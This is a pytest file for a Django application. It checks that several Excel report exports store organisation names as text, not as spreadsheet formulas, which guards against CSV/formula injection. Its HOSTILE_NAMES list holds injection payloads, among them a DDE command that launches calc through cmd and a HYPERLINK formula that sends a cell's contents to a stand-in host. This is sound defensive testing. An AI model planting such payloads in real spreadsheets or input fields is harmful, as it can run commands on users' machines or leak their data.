"""Every Excel export writes a text that a spreadsheet would run as plain text (OWASP "CSV injection").

The exports are files written by background runs (cells.report_runs): each is asked for as its
page does, and read back from its download."""

import datetime
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from plans.services.candidates import candidates_flag
from tests.assessments.factories import classify
from tests.cells.factories import make_meeting
from tests.reports import report_download

pytestmark = pytest.mark.usefixtures("reports_at_once")
HOSTILE_NAMES = ['=HYPERLINK("http://x"&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\tTab", "\rCR"]


def formulas(content: bytes) -> list[str]:
    """The formulas stored in a workbook: <f> elements of its sheets, and cells typed as formulas."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        return [name for name in sheets if b"<f>" in archive.read(name) or b"<f " in archive.read(name)]


def texts(content: bytes) -> list:
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell.value for row in sheet.iter_rows() for cell in row if cell.data_type == "s"]


@pytest.fixture
def hostile_names(tree):
    names = dict(zip([tree.a, tree.b, tree.a1, tree.a2, tree.b1], HOSTILE_NAMES, strict=False))
    for organization, name in names.items():
        organization.name = name
        organization.save()
    return names


def test_the_compliance_workbooks_show_formulas_as_text(client, tree, alice, hostile_names):
    make_meeting(tree.a1, date=datetime.date(2016, 3, 5))
    client.force_login(alice)
    # The commune's page lists its cells A1 and A2; the district's its communes A and B.
    for organization, shown in ((tree.a, HOSTILE_NAMES[2:4]), (tree.d, HOSTILE_NAMES[0:2])):
        url = reverse("cells:meeting_compliance", kwargs={"org_code": organization.code, "year": 2016})
        content = report_download(client, url).content
        assert formulas(content) == []
        assert set(shown) <= set(texts(content))


def test_the_candidates_workbook_shows_formulas_as_text(client, tree, alice, hostile_names):
    classify(tree.a, 2018, "complete")
    classify(tree.b, 2018, "incomplete")
    candidates_flag(year=2018)
    client.force_login(alice)
    content = report_download(client, reverse("plans:candidates_export", kwargs={"year": 2019})).content
    assert formulas(content) == []
    written = texts(content)
    assert HOSTILE_NAMES[0] in written and HOSTILE_NAMES[1] in written


@pytest.mark.parametrize("kind", ["xep-loai", "cung-co", "sinh-hoat", "phat-trien-dang"])
def test_the_report_workbooks_show_formulas_as_text(client, tree, alice, hostile_names, kind):
    classify(tree.a, 2018, "complete")
    classify(tree.b, 2018, "incomplete")
    candidates_flag(year=2018)
    make_meeting(tree.a1, date=datetime.date(2019, 3, 5))
    client.force_login(alice)
    url = reverse("plans:report", kwargs={"org_code": tree.d.code, "year": 2019, "kind": kind})
    content = report_download(client, url, format="xlsx").content
    assert formulas(content) == []
    book = load_workbook(io.BytesIO(content))
    written = {cell.value for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "s"}
    assert set(HOSTILE_NAMES[0:2]) <= written, kind  # the two grassroots organizations, by name


def test_the_change_log_workbook_shows_formulas_as_text(client, tree, auditor, hostile_names):
    """The auditors' export of the change log (admin), whose rows name the records as they were written."""
    client.force_login(auditor)
    content = report_download(client, reverse("admin:auditlog_logentry_export")).content  # a report run
    assert formulas(content) == []
    written = texts(content)
    assert HOSTILE_NAMES[0] in written and HOSTILE_NAMES[1] in written


def test_the_change_log_workbook_writer_keeps_formulas_as_text(hostile_names):
    from auditlog.models import LogEntry

    from cells.audit import change_log_workbook

    content, _rows = change_log_workbook(LogEntry.objects.all())

    assert formulas(content) == []
    assert set(HOSTILE_NAMES[:5]) <= set(texts(content))
